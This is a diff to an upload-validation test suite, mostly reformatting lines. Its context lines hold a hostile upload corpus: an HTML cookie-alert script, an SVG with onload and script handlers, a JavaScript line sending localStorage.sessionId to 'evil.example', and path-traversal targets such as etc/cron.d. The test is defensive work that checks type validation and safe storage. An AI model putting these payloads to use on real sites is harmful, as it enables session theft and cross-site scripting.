@@ -15,7 +15,9 @@ import { DATABASES, registerUser, startTestApp, type TestApp } from '../harness.
 
 const TYPE_MESSAGE = 'Please upload a PDF, Word document, or text file';
 const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
-const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
+const SVG = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
+);
 const JS = Buffer.from('fetch("//evil.example/"+localStorage.sessionId)\0');
 const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
 const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb', 'hex');
@@ -42,7 +44,9 @@ describe.each(DATABASES)('upload corpus on %s', (kind) => {
     const pdf = await makePdf(['Valid page']);
     const docx = makeDocx(['Valid paragraph']);
     const zipNoWord = Buffer.from(zipSync({ 'readme.txt': strToU8('not a word document') }));
-    const docxWithMacroOnly = Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/vbaProject.bin': new Uint8Array(64) }));
+    const docxWithMacroOnly = Buffer.from(
+      zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/vbaProject.bin': new Uint8Array(64) }),
+    );
     const corpus: Array<[string, Buffer]> = [
       ['page.pdf', HTML],
       ['drawing.pdf', SVG],
@@ -111,7 +115,11 @@ describe.each(DATABASES)('upload corpus on %s', (kind) => {
       const res = await uploadFile(t.baseUrl, token, name, data);
       expect(res.status, name.slice(0, 60)).toBe(200);
       const id = res.body.fileUrl.split('/').pop();
-      const [row] = ((await t.database.db.execute(sql`select original_name from uploads where id = ${id}`)) as unknown as { rows: any[] }).rows;
+      const [row] = (
+        (await t.database.db.execute(sql`select original_name from uploads where id = ${id}`)) as unknown as {
+          rows: any[];
+        }
+      ).rows;
       expect(row.original_name, name.slice(0, 60)).toBe(stored);
       // No separators, controls or bidi overrides survive into the name shown and downloaded.
       // eslint-disable-next-line no-control-regex -- control characters are exactly what must be absent
@@ -132,7 +140,8 @@ describe.each(DATABASES)('upload corpus on %s', (kind) => {
     walk(root);
     const outside = found.filter((f) => !f.startsWith(`files${path.sep}`) && f !== 'file-encryption.key');
     expect(outside).toEqual([]);
-    for (const f of found.filter((x) => x.startsWith('files'))) expect(path.basename(f)).toMatch(/^[0-9a-f-]{36}$/);
+    for (const f of found.filter((x) => x.startsWith('files')))
+      expect(path.basename(f)).toMatch(/^[0-9a-f-]{36}$/);
     for (const escape of ['x', 'etc/cron.d/x.txt']) {
       expect(fs.existsSync(path.resolve(root, 'files', '../..', escape))).toBe(false);
       expect(fs.existsSync(path.resolve(root, '..', escape))).toBe(false);
